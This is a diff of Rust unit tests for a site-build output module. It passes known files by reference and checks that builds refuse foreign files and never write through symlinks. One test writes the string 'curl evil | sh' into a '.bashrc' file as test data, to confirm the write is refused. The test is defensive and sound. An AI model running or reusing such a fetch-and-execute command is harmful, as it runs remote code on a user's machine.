@@ -283,7 +283,7 @@ mod tests {
         }
     }
 
-    fn over(target: &Path, known: KeptFiles) -> Result<DiskOutput, Error> {
+    fn over(target: &Path, known: &KeptFiles) -> Result<DiskOutput, Error> {
         DiskOutput::new(standing(target, &known)?, None)
     }
 
@@ -306,11 +306,11 @@ mod tests {
     fn a_build_that_is_dropped_leaves_the_target_as_it_was() {
         let folder = tempfile::tempdir().expect("a folder for the test");
         let target = folder.path().join("build");
-        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
         write(&first, &[("index.html", "one")]);
         let known = first.finish().expect("the folder is ours").files;
 
-        let second = over(&target, known).expect("the folder is a build");
+        let second = over(&target, &known).expect("the folder is a build");
         write(&second, &[("index.html", "two")]);
         drop(second);
 
@@ -323,7 +323,7 @@ mod tests {
         let folder = tempfile::tempdir().expect("a folder for the test");
         let target = folder.path().join("build");
         for name in ["old.html", "new.html"] {
-            let output = over(&target, KeptFiles::default()).expect("free, or a build");
+            let output = over(&target, &KeptFiles::default()).expect("free, or a build");
             write(&output, &[(name, "text")]);
             let finished = output.finish().expect("the folder is ours");
             finished.published.settle().expect("the folder is ours");
@@ -337,14 +337,14 @@ mod tests {
     fn only_what_differs_is_written() {
         let folder = tempfile::tempdir().expect("a folder for the test");
         let target = folder.path().join("build");
-        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
         write(&first, &[("a/same.html", "same"), ("a/new.html", "old"), ("b/gone.html", "")]);
         let known = first.finish().expect("the folder is ours").files;
         assert!(is_as_written(&target, &known));
         let same = Signature::of(&target.join("a/same.html"));
         fs::write(target.join("stray.txt"), "somebody's").expect("the folder is ours");
 
-        let second = over(&target, known).expect("the folder is a build");
+        let second = over(&target, &known).expect("the folder is a build");
         write(&second, &[("a/same.html", "same"), ("a/new.html", "new")]);
         let finished = second.finish().expect("the folder is ours");
         finished.published.settle().expect("the folder is ours");
@@ -362,12 +362,12 @@ mod tests {
     fn a_file_that_was_touched_is_written_again() {
         let folder = tempfile::tempdir().expect("a folder for the test");
         let target = folder.path().join("build");
-        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
         write(&first, &[("a.html", "ours"), ("b.html", "ours")]);
         let known = first.finish().expect("the folder is ours").files;
         fs::write(target.join("a.html"), "theirs").expect("the folder is ours");
 
-        let second = over(&target, known).expect("the folder is a build");
+        let second = over(&target, &known).expect("the folder is a build");
         assert!(!second.keep("a.html") && second.keep("b.html"));
         write(&second, &[("a.html", "ours")]);
         second.finish().expect("the folder is ours");
@@ -378,7 +378,7 @@ mod tests {
     fn a_folder_with_other_things_is_refused() {
         let folder = tempfile::tempdir().expect("a folder for the test");
         fs::write(folder.path().join("thesis.txt"), "years of work").expect("the folder is ours");
-        let refused = over(folder.path(), KeptFiles::default());
+        let refused = over(folder.path(), &KeptFiles::default());
         assert!(matches!(refused, Err(Error::ForeignFolder(_))));
     }
 
@@ -386,12 +386,12 @@ mod tests {
     fn several_files_are_kept_all_or_none() {
         let folder = tempfile::tempdir().expect("a folder for the test");
         let target = folder.path().join("build");
-        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
         write(&first, &[("a.html", "a"), ("a.json", "a")]);
         let known = first.finish().expect("the folder is ours").files;
         fs::remove_file(target.join("a.json")).expect("it is there");
 
-        let second = over(&target, known).expect("the folder is a build");
+        let second = over(&target, &known).expect("the folder is a build");
         assert!(!second.keep_all(&["a.html", "a.json"]));
         write(&second, &[]);
         let files = second.finish().expect("the folder is ours").files;
@@ -403,11 +403,11 @@ mod tests {
     fn a_file_takes_the_place_of_a_folder_and_a_folder_that_of_a_file() {
         let folder = tempfile::tempdir().expect("a folder for the test");
         let target = folder.path().join("build");
-        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
         write(&first, &[("a", "file"), ("b/c.html", "in a folder")]);
         let known = first.finish().expect("the folder is ours").files;
 
-        let second = over(&target, known).expect("the folder is a build");
+        let second = over(&target, &known).expect("the folder is a build");
         write(&second, &[("a/d.html", "in a folder"), ("b", "file")]);
         second.finish().expect("the folder is ours");
         assert_eq!(fs::read(target.join("a/d.html")).expect("it is there"), b"in a folder");
@@ -438,19 +438,19 @@ mod tests {
     fn what_no_build_has_written_stays_with_and_without_knowledge_of_the_previous_build() {
         let folder = tempfile::tempdir().expect("a folder for the test");
         let target = folder.path().join("build");
-        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
         write(&first, &[("guide/a.html", "one"), ("guide/gone.html", "one")]);
         let known = first.finish().expect("the folder is ours").files;
         let foreign = add_foreign(&target);
         assert!(is_as_written(&target, &known), "foreign files change nothing");
 
-        let second = over(&target, known).expect("the folder is a build");
+        let second = over(&target, &known).expect("the folder is a build");
         write(&second, &[("guide/a.html", "two")]);
         second.finish().expect("the folder is ours");
         assert_foreign(&target, &foreign);
         assert!(!target.join("guide/gone.html").exists());
 
-        let third = over(&target, KeptFiles::default()).expect("the folder is a build");
+        let third = over(&target, &KeptFiles::default()).expect("the folder is a build");
         write(&third, &[("index.html", "three")]);
         third.finish().expect("the folder is ours");
         assert_foreign(&target, &foreign);
@@ -461,12 +461,12 @@ mod tests {
     fn all_foreign_files_in_the_way_are_named_and_nothing_changes() {
         let folder = tempfile::tempdir().expect("a folder for the test");
         let target = folder.path().join("build");
-        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
         write(&first, &[("index.html", "one")]);
         first.finish().expect("the folder is ours");
         let foreign = add_foreign(&target);
 
-        let second = over(&target, KeptFiles::default()).expect("the folder is a build");
+        let second = over(&target, &KeptFiles::default()).expect("the folder is a build");
         write(&second, &[("CNAME/x.html", ""), ("guide/notes.txt", "site's"), ("a/deep", "file")]);
         write(&second, &[("a/deep/er.txt", "a/deep/er.txt")]);
         let refused = second.finish().expect_err("files are in the way");
@@ -481,12 +481,12 @@ mod tests {
     fn a_foreign_file_with_the_same_bytes_becomes_the_site_s() {
         let folder = tempfile::tempdir().expect("a folder for the test");
         let target = folder.path().join("build");
-        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
         write(&first, &[("index.html", "one")]);
         first.finish().expect("the folder is ours");
         fs::write(target.join("CNAME"), "docs.example.com").expect("the folder is ours");
         for site in [vec![("CNAME", "docs.example.com")], vec![]] {
-            let output = over(&target, KeptFiles::default()).expect("the folder is a build");
+            let output = over(&target, &KeptFiles::default()).expect("the folder is a build");
             write(&output, &site);
             output.finish().expect("nothing is in the way");
             assert_eq!(target.join("CNAME").exists(), !site.is_empty());
@@ -499,17 +499,17 @@ mod tests {
         let folder = tempfile::tempdir().expect("a folder for the test");
         let (target, elsewhere) = (folder.path().join("build"), folder.path().join("elsewhere"));
         fs::create_dir(&elsewhere).expect("the folder is ours");
-        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
         write(&first, &[("index.html", "one")]);
         first.finish().expect("the folder is ours");
         std::os::unix::fs::symlink("../elsewhere", target.join("a")).expect("the folder is ours");
 
-        let second = over(&target, KeptFiles::default()).expect("the folder is a build");
+        let second = over(&target, &KeptFiles::default()).expect("the folder is a build");
         write(&second, &[("index.html", "two")]);
         second.finish().expect("nothing is in the way");
         assert_eq!(fs::read_link(target.join("a")).expect("it stays"), Path::new("../elsewhere"));
 
-        let third = over(&target, KeptFiles::default()).expect("the folder is a build");
+        let third = over(&target, &KeptFiles::default()).expect("the folder is a build");
         write(&third, &[("a/.bashrc", "curl evil | sh")]);
         assert!(matches!(third.finish(), Err(Error::ForeignFiles { .. })));
         assert_eq!(count(&elsewhere), 0);
@@ -543,10 +543,10 @@ mod tests {
     fn a_file_that_somebody_adds_during_a_build_is_in_the_new_site() {
         let folder = tempfile::tempdir().expect("a folder for the test");
         let target = folder.path().join("build");
-        let first = over(&target, KeptFiles::default()).expect("the folder is free");
+        let first = over(&target, &KeptFiles::default()).expect("the folder is free");
         write(&first, &[("a/index.html", "one")]);
         let known = first.finish().expect("the folder is ours").files;
-        let second = over(&target, known).expect("the folder is a build");
+        let second = over(&target, &known).expect("the folder is a build");
         write(&second, &[("a/index.html", "two")]);
         for path in ["upload.txt", "a/upload.txt"] {
             fs::write(target.join(path), path).expect("the folder is ours");
